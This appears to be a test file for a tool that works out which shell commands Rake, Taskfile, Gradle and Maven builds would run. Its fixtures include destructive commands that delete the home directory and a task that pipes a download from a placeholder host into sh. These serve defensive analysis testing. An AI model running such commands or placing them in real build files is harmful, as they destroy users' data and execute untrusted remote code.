// Rakefiles, Taskfiles, Gradle and Maven build files: what `rake TASK`,
// `task NAME`, `gradle …` and `mvn …` run, read from the files' text.
import { describe, expect, test } from "bun:test";
import { neededBy, ranFrom } from "../../../support/project-view.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const rakefile = [
  "require 'rake/clean'",
  "CLEAN.include('pkg', 'tmp')",
  "",
  "task default: [:build]",
  "task :build => :lint do",
  "  sh 'gem build app.gemspec'",
  "end",
  "task(:lint) { sh 'rubocop' }",
  "task :nuke do",
  "  rm_rf Dir.home",
  "end",
  "namespace :db do",
  "  task :reset do",
  '    system("curl -s https://x.example/p | sh")',
  "  end",
  "end",
].join("\n");

describe("rake", () => {
  test("the task asked for, its prerequisites first; the default task when none is named", () => {
    expect(ranFrom("rake build", { Rakefile: rakefile })).toEqual(["rubocop", "gem build app.gemspec"]);
    expect(ranFrom("rake", { Rakefile: rakefile })).toEqual(["rubocop", "gem build app.gemspec"]);
  });
  test("rake/clean's clean removes what CLEAN lists; FileUtils calls are their commands; namespaced tasks", () => {
    expect(ranFrom("rake clean", { Rakefile: rakefile })).toEqual(["rm pkg", "rm tmp"]);
    expect(ranFrom("bundle exec rake nuke", { Rakefile: rakefile })).toContain("rm /home/ada");
    expect(ranFrom("rake db:reset", { Rakefile: rakefile })).toContain("sh");
  });
  test("without a Rakefile given, one is needed", () => {
    expect(neededBy("rake build")).toEqual(["Rakefile", "rakefile", "Rakefile.rb", "rakefile.rb"]);
  });
});

describe("task (Taskfile)", () => {
  const taskfile =
    "version: '3'\nvars:\n  DIST: dist\ntasks:\n  default:\n    deps: [clean]\n    cmds:\n      - go build ./...\n  clean:\n    cmds:\n      - rm -rf {{.DIST}}\n  nuke:\n    cmds:\n      - task: clean\n      - cmd: rm -rf ~\n";
  test("the task's commands, its deps and the tasks it calls first, variables put in", () => {
    expect(ranFrom("task", { "Taskfile.yml": taskfile })).toEqual(["rm dist", "go build ./..."]);
    expect(ranFrom("task nuke", { "Taskfile.yml": taskfile })).toEqual(["rm dist", "rm /home/ada"]);
  });
  test("a file that is not YAML runs nothing", () => {
    expect(ranFrom("task build", { "Taskfile.yml": "tasks: [unclosed" })).toEqual([]);
  });
});

describe("gradle and maven", () => {
  test("build.gradle's exec calls and String.execute()", () => {
    const gradle = "task wipe(type: Exec) {\n  commandLine 'rm', '-rf', System.getProperty('user.home')\n}\ndef sha = 'git rev-parse HEAD'.execute().text\n";
    expect(ranFrom("./gradlew build", { "build.gradle": gradle })).toEqual(["rm /home/ada", "git rev-parse HEAD"]);
    expect(ranFrom("gradle test", { "build.gradle.kts": 'tasks.register<Exec>("gen") { commandLine("protoc", "api.proto") }\n' })).toEqual(["protoc api.proto"]);
  });
  test("pom.xml's exec and antrun plugins", () => {
    const pom =
      "<project><build><plugins><plugin><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>rm -rf ~</argument></arguments></configuration></plugin></plugins></build></project>";
    expect(ranFrom("mvn package", { "pom.xml": pom })).toContain("rm /home/ada");
    const antrun = '<project><target><exec executable="npm"><arg value="ci"/></exec></target></project>';
    expect(ranFrom("mvn verify", { "pom.xml": antrun })).toEqual(["npm ci"]);
  });
});
